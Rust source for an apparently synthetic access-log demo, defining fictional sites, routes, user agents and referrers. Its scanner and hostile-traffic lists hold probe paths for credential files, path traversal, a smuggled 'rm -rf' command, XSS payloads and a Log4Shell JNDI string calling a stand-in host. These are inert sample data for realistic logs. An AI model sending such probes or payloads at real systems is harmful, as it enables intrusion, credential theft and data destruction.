//! The make-believe world of the demo: sites, their routes, who comes and from where.
//!
//! Names and addresses are those set aside for documentation (RFC 2606, 5737, 3849), so that no
//! real host is ever named.

/// How a route behaves.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub(super) enum Kind {
    Page,
    Search,
    Checkout,
    Login,
    Api,
    Asset,
    Image,
    Feed,
    Health,
}

/// Times in milliseconds and sizes in bytes; both are log-normal around the median.
#[derive(Debug)]
pub(super) struct Manner {
    pub(super) time_ms: f64,
    pub(super) time_sigma: f64,
    pub(super) bytes: f64,
    pub(super) bytes_sigma: f64,
    /// Share answered from nginx's cache; those below zero never ask the cache.
    pub(super) cached: f64,
}

impl Kind {
    pub(super) fn manner(self) -> Manner {
        let manner = |time_ms, time_sigma, bytes, bytes_sigma, cached| Manner {
            time_ms,
            time_sigma,
            bytes,
            bytes_sigma,
            cached,
        };
        match self {
            Kind::Page => manner(38.0, 0.55, 18_000.0, 0.5, 0.35),
            Kind::Search => manner(110.0, 0.6, 24_000.0, 0.4, 0.1),
            Kind::Checkout => manner(170.0, 0.45, 900.0, 0.3, -1.0),
            Kind::Login => manner(85.0, 0.3, 600.0, 0.2, -1.0),
            Kind::Api => manner(14.0, 0.7, 1_400.0, 0.9, -1.0),
            Kind::Asset => manner(0.9, 0.6, 32_000.0, 1.0, 0.96),
            Kind::Image => manner(2.2, 0.8, 41_000.0, 0.8, 0.9),
            Kind::Feed => manner(6.0, 0.5, 52_000.0, 0.2, 0.8),
            Kind::Health => manner(0.6, 0.3, 15.0, 0.0, -1.0),
        }
    }
}

/// One kind of request a site gets. `{n}` in the path stands for a number, `{w}` for a word.
#[derive(Debug)]
pub(super) struct Route {
    pub(super) method: &'static str,
    pub(super) path: &'static str,
    pub(super) kind: Kind,
    pub(super) weight: f64,
}

const fn route(method: &'static str, path: &'static str, kind: Kind, weight: f64) -> Route {
    Route { method, path, kind, weight }
}

#[derive(Debug)]
pub(super) struct Site {
    pub(super) host: &'static str,
    /// Share of the visits.
    pub(super) weight: f64,
    /// What a visitor asks for himself.
    pub(super) routes: &'static [Route],
    /// What his browser asks for after a page; empty for an API.
    pub(super) assets: &'static [Route],
    pub(super) upstreams: &'static [&'static str],
}

pub(super) const SHOP: usize = 0;

pub(super) const SITES: [Site; 4] = [
    Site {
        host: "shop.example.org",
        weight: 46.0,
        routes: &[
            route("GET", "/", Kind::Page, 18.0),
            route("GET", "/products/{n}", Kind::Page, 30.0),
            route("GET", "/category/{w}", Kind::Page, 14.0),
            route("GET", "/search?q={w}", Kind::Search, 8.0),
            route("GET", "/cart", Kind::Page, 6.0),
            route("POST", "/api/cart", Kind::Api, 7.0),
            route("POST", "/api/checkout", Kind::Checkout, 3.2),
            route("GET", "/api/stock/{n}", Kind::Api, 9.0),
            route("POST", "/login", Kind::Login, 1.6),
            route("GET", "/account/orders", Kind::Page, 2.2),
            route("GET", "/reset-password?token={n}f3a91c", Kind::Page, 0.1),
        ],
        assets: &[
            route("GET", "/static/app.3f9c1b.js", Kind::Asset, 10.0),
            route("GET", "/static/app.8d02aa.css", Kind::Asset, 10.0),
            route("GET", "/static/fonts/inter-var.woff2", Kind::Asset, 5.0),
            route("GET", "/img/products/{n}.webp", Kind::Image, 26.0),
            route("GET", "/favicon.ico", Kind::Asset, 3.0),
            route("GET", "/api/recommendations?for={n}", Kind::Api, 6.0),
        ],
        upstreams: &["10.0.0.5:8080", "10.0.0.6:8080", "10.0.0.7:8080"],
    },
    Site {
        host: "www.example.org",
        weight: 29.0,
        routes: &[
            route("GET", "/", Kind::Page, 30.0),
            route("GET", "/blog/{w}", Kind::Page, 28.0),
            route("GET", "/docs/{w}", Kind::Page, 16.0),
            route("GET", "/pricing", Kind::Page, 10.0),
            route("GET", "/about", Kind::Page, 5.0),
            route("GET", "/feed.xml", Kind::Feed, 4.0),
            route("GET", "/?utm_source=newsletter&utm_campaign=autumn", Kind::Page, 3.0),
            route("GET", "/old/{w}.html", Kind::Page, 1.5),
        ],
        assets: &[
            route("GET", "/assets/site.b71c.css", Kind::Asset, 10.0),
            route("GET", "/assets/site.09ee.js", Kind::Asset, 8.0),
            route("GET", "/media/hero-{n}.avif", Kind::Image, 8.0),
            route("GET", "/favicon.svg", Kind::Asset, 3.0),
        ],
        upstreams: &["10.0.0.11:3000", "10.0.0.12:3000"],
    },
    Site {
        host: "api.example.net",
        weight: 17.0,
        routes: &[
            route("GET", "/v1/orders/{n}", Kind::Api, 26.0),
            route("GET", "/v1/orders?limit=50", Kind::Api, 14.0),
            route("POST", "/v1/events", Kind::Api, 24.0),
            route("GET", "/v1/users/{n}", Kind::Api, 16.0),
            route("PUT", "/v1/users/{n}", Kind::Api, 3.0),
            route("DELETE", "/v1/sessions/{n}", Kind::Api, 1.5),
            route("POST", "/v1/token", Kind::Login, 4.0),
            route("GET", "/v1/reports/daily", Kind::Search, 1.2),
        ],
        assets: &[],
        upstreams: &["10.0.1.21:9000", "10.0.1.22:9000"],
    },
    Site {
        host: "static.example.org",
        weight: 8.0,
        routes: &[
            route("GET", "/img/{w}-{n}.jpg", Kind::Image, 40.0),
            route("GET", "/video/{w}.mp4", Kind::Image, 3.0),
            route("GET", "/js/embed.js", Kind::Asset, 20.0),
        ],
        assets: &[],
        upstreams: &["10.0.0.31:8000"],
    },
];

/// Words that fill `{w}`; the first are the most wanted.
pub(super) const WORDS: [&str; 36] = [
    "espresso",
    "kettle",
    "grinder",
    "teapot",
    "filter",
    "mug",
    "scale",
    "roast",
    "decaf",
    "porcelain",
    "cold-brew",
    "matcha",
    "travel-mug",
    "descaler",
    "getting-started",
    "milk",
    "gift-card",
    "beans",
    "winter-sale",
    "moka",
    "tamper",
    "install",
    "syrup",
    "upgrade",
    "saucer",
    "chicory",
    "hand-mill",
    "release-notes",
    "origin-kenya",
    "latte-art",
    "recycling",
    "subscription",
    "water-hardness",
    "capsules",
    "caf%C3%A9",
    "%E3%82%B3%E3%83%BC%E3%83%92%E3%83%BC",
];

/// A user agent and how often it is seen.
#[derive(Debug)]
pub(super) struct Agent {
    pub(super) text: &'static str,
    pub(super) weight: f64,
}

const fn agent(weight: f64, text: &'static str) -> Agent {
    Agent { text, weight }
}

pub(super) const BROWSERS: [Agent; 13] = [
    agent(
        26.0,
        "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/146.0.0.0 Safari/537.36",
    ),
    agent(
        9.0,
        "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/146.0.0.0 Safari/537.36",
    ),
    agent(
        4.0,
        "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/145.0.0.0 Safari/537.36",
    ),
    agent(
        20.0,
        "Mozilla/5.0 (Linux; Android 10; K) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/146.0.0.0 Mobile Safari/537.36",
    ),
    agent(
        16.0,
        "Mozilla/5.0 (iPhone; CPU iPhone OS 18_7 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/26.1 Mobile/15E148 Safari/604.1",
    ),
    agent(
        6.0,
        "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/26.1 Safari/605.1.15",
    ),
    agent(
        5.0,
        "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/146.0.0.0 Safari/537.36 Edg/146.0.0.0",
    ),
    agent(4.0, "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:148.0) Gecko/20100101 Firefox/148.0"),
    agent(3.0, "Mozilla/5.0 (X11; Linux x86_64; rv:148.0) Gecko/20100101 Firefox/148.0"),
    agent(1.5, "Mozilla/5.0 (Android 15; Mobile; rv:148.0) Gecko/148.0 Firefox/148.0"),
    agent(
        2.0,
        "Mozilla/5.0 (Linux; Android 15; SAMSUNG SM-S931B) AppleWebKit/537.36 (KHTML, like Gecko) SamsungBrowser/29.0 Chrome/136.0.0.0 Mobile Safari/537.36",
    ),
    agent(
        1.0,
        "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/145.0.0.0 Safari/537.36 OPR/127.0.0.0",
    ),
    agent(
        1.2,
        "Mozilla/5.0 (iPad; CPU OS 18_7 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/26.1 Mobile/15E148 Safari/604.1",
    ),
];

pub(super) const BOTS: [Agent; 11] = [
    agent(22.0, "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)"),
    agent(10.0, "Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)"),
    agent(
        12.0,
        "Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; GPTBot/1.3; +https://openai.com/gptbot)",
    ),
    agent(
        11.0,
        "Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; ClaudeBot/1.0; +claudebot@anthropic.com)",
    ),
    agent(
        6.0,
        "Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; PerplexityBot/1.0; +https://perplexity.ai/perplexitybot)",
    ),
    agent(
        6.0,
        "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_5) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/13.1.1 Safari/605.1.15 (Applebot/0.1; +http://www.apple.com/go/applebot)",
    ),
    agent(7.0, "Mozilla/5.0 (compatible; AhrefsBot/7.0; +http://ahrefs.com/robot/)"),
    agent(5.0, "Mozilla/5.0 (compatible; SemrushBot/7~bl; +http://www.semrush.com/bot.html)"),
    agent(3.0, "facebookexternalhit/1.1 (+http://www.facebook.com/externalhit_uatext.php)"),
    agent(3.0, "CCBot/2.0 (https://commoncrawl.org/faq/)"),
    agent(4.0, "Mozilla/5.0 (compatible; YandexBot/3.0; +http://yandex.com/bots)"),
];

pub(super) const TOOLS: [Agent; 7] = [
    agent(24.0, "okhttp/4.12.0"),
    agent(18.0, "Go-http-client/2.0"),
    agent(14.0, "python-requests/2.32.3"),
    agent(9.0, "axios/1.7.9"),
    agent(6.0, "curl/8.11.1"),
    agent(5.0, "Java-http-client/21.0.5"),
    agent(4.0, "PostmanRuntime/7.43.0"),
];

/// Where a visit begins; the empty one is no referrer.
pub(super) const REFERRERS: [(&str, f64); 9] = [
    ("", 46.0),
    ("https://www.google.com/", 28.0),
    ("https://www.bing.com/", 5.0),
    ("https://duckduckgo.com/", 5.0),
    ("https://news.ycombinator.com/", 2.5),
    ("https://www.reddit.com/", 3.0),
    ("https://mail.example.com/newsletter/autumn", 4.0),
    ("https://mastodon.example/@coffee", 1.5),
    ("android-app://com.google.android.googlequicksearchbox/", 2.0),
];

/// What a scanner asks for.
pub(super) const SCANNED: [&str; 24] = [
    "/wp-login.php",
    "/wp-login.php",
    "/wp-login.php",
    "/xmlrpc.php",
    "/.env",
    "/.git/config",
    "/wp-admin/setup-config.php",
    "/phpmyadmin/index.php",
    "/admin.php",
    "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php",
    "/cgi-bin/luci/;stok=/locale",
    "/boaform/admin/formLogin",
    "/actuator/health",
    "/server-status",
    "/backup.sql",
    "/config.json",
    "/.aws/credentials",
    "/owa/auth/logon.aspx",
    "/solr/admin/info/system",
    "/autodiscover/autodiscover.json",
    "/wp-content/plugins/hellopress/wp_filemanager.php",
    "/index.php?s=/Index/%5Cthink%5Capp/invokefunction",
    "/shell?cd+/tmp;rm+-rf+*",
    "/../../../../etc/passwd",
];

/// Lines that come from the open internet sooner or later: request, agent, status.
pub(super) const HOSTILE: [(&str, &str, u16); 6] = [
    ("GET / HTTP/1.1", "<img src=x onerror=alert(document.domain)>", 200),
    (r"\x16\x03\x01\x02\x00\x01\x00\x01\xFC\x03\x03", "-", 400),
    ("GET / HTTP/1.1", "${jndi:ldap://192.0.2.66:1389/a}", 200),
    ("GET /search?q=%3Cscript%3Ealert(1)%3C/script%3E HTTP/1.1", "Mozilla/5.0 zgrab/0.x", 200),
    ("", "-", 400),
    (r"\x03\x00\x00/*\xE0\x00\x00\x00\x00\x00Cookie: mstshash=Administr", "-", 400),
];
